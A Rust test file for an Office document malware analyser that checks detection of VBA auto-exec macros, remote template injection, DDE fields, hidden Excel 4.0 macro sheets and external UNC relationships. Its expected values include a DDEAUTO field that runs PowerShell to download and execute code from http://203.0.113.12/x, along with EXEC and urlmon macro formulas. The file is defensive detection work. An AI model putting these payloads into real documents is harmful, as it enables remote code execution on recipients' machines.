//! OOXML packages: content types, relationships, vbaProject.bin, DDE
//! fields, macro sheets, embeddings.

use mozu_model::Severity;

use super::{assert_severity, evidence_contains, finding, has_finding};
use crate::analyse_ooxml;
use crate::fixtures::{self, REMOTE_TEMPLATE_URL};

#[test]
fn docm_with_vba_project_and_package_embedding() {
    let analysis = analyse_ooxml(&fixtures::docm_parts());
    assert_eq!(analysis.info.format, "docm");
    assert_eq!(analysis.info.vba_code_page, Some(932));
    assert_eq!(analysis.info.vba_modules.len(), 2);
    assert!(analysis.info.vba_modules[1].code.contains("請求書を開く"));
    assert_severity(&analysis, "office.vba_autoexec", Severity::High);
    assert_severity(&analysis, "office.vba_suspicious", Severity::High);
    assert!(analysis.info.embedded_objects.contains(&"Package".to_owned()));
    assert_eq!(analysis.children.len(), 1);
    assert_eq!(analysis.children[0].name, "oleObject1.bin");
    assert!(has_finding(&analysis, "office.embedded_object"));
    assert!(analysis.warnings.is_empty(), "{:?}", analysis.warnings);
}

#[test]
fn remote_template_injection() {
    let analysis = analyse_ooxml(&fixtures::docx_remote_template_parts());
    assert_eq!(analysis.info.format, "docx");
    let expected = format!("attachedTemplate: {REMOTE_TEMPLATE_URL}");
    assert!(
        analysis.info.external_relationships.contains(&expected),
        "{:?}",
        analysis.info.external_relationships
    );
    assert_severity(&analysis, "office.external_template", Severity::High);
    let template = finding(&analysis, "office.external_template");
    assert_eq!(
        template.evidence[0].field,
        "relationships[word/_rels/settings.xml.rels]"
    );
    assert_eq!(template.evidence[0].value, expected);
    assert!(analysis.texts.contains(&REMOTE_TEMPLATE_URL.to_owned()));
    // The hyperlink is external too, but only a weak signal, and unescaped.
    assert_severity(&analysis, "office.external_relationship", Severity::Low);
    assert!(analysis.texts.contains(&"https://example.jp/info?a=1&b=2".to_owned()));
    assert!(!has_finding(&analysis, "office.vba_macros"));
}

#[test]
fn dde_fields_split_over_runs_and_nested() {
    let analysis = analyse_ooxml(&fixtures::docx_dde_parts());
    assert_eq!(
        analysis.info.dde,
        [
            "DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe \"/k powershell -c IEX (iwr http://203.0.113.12/x)\"",
            "DDE \"cmd.exe\" \"/c calc\"",
        ]
    );
    assert_severity(&analysis, "office.dde", Severity::High);
    assert!(evidence_contains(&analysis, "office.dde", "DDEAUTO"));
}

#[test]
fn xlsm_macro_sheet_formulas() {
    let analysis = analyse_ooxml(&fixtures::xlsm_macrosheet_parts());
    assert_eq!(analysis.info.format, "xlsm");
    assert_eq!(analysis.info.xlm_macro_sheets, ["Macro1"]);
    assert_severity(&analysis, "office.xlm_macrosheet", Severity::High);
    for needle in [
        "Macro1 (Excel 4.0 macro sheet, very hidden)",
        "_xlnm.Auto_Open = Macro1!$A$1",
        "EXEC(",
        "CALL(\"urlmon\"",
        "3 formulas",
    ] {
        assert!(
            evidence_contains(&analysis, "office.xlm_macrosheet", needle),
            "{needle}"
        );
    }
    assert!(
        analysis
            .texts
            .iter()
            .any(|text| text.contains("http://203.0.113.13/p") && text.contains("HALT()"))
    );
    assert_eq!(analysis.info.dde, ["cmd|' /c calc'!A0"]);
}

#[test]
fn format_falls_back_to_part_names() {
    let parts = vec![("xl/workbook.xml".to_owned(), b"<workbook/>".to_vec())];
    assert_eq!(analyse_ooxml(&parts).info.format, "xlsx");
    let analysis = analyse_ooxml(&[]);
    assert_eq!(analysis.info.format, "ooxml");
    assert!(analysis.findings.is_empty());
}

#[test]
fn utf16_parts_and_entities() {
    let text = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><Relationships><Relationship Id=\"r1\" Type=\"x/frame\" Target=\"\\\\203.0.113.14\\share&#x2F;a\" TargetMode=\"External\"/></Relationships>";
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let analysis = analyse_ooxml(&[("word/_rels/webSettings.xml.rels".to_owned(), bytes)]);
    assert_eq!(
        analysis.info.external_relationships,
        ["frame: \\\\203.0.113.14\\share/a"]
    );
    assert_severity(&analysis, "office.external_template", Severity::High);
}
